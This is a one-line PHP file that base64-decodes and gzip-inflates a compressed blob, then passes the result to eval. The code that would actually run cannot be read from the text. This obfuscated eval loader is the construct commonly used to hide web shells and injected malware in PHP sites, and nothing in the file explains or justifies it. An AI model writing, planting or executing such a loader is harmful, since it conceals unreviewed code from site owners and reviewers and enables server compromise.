<?php eval(gzinflate(base64_decode('s7EvyChQcEgtS8zRUIkP8A8OiVYvSCwuVo/VtFawtwMA'))); ?>
